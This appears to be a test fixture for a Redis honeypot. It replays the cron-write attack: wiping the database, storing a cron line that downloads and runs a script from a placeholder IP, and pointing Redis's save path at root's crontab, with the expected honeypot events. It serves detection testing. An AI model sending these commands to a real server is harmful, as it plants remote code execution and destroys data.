# the cron-write playbook as bots type it (inline, then RESP as redis-cli
# sends it): command events with the URL as an indicator, CONFIG SET dir and
# dbfilename refused as protected configs (Redis 7.0's default) with an
# exploit event each, SAVE answered
open redis 6379
> FLUSHALL\r\n
> SET x "\\n\\n*/1 * * * * curl -fsSL http://192.0.2.9/x.sh|sh\\n\\n"\r\n
> CONFIG SET dir /var/spool/cron/crontabs\r\n
> *4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$4\r\nroot\r\n
> SAVE\r\nGET x\r\nKEYS *\r\nDBSIZE\r\n
> QUIT\r\n
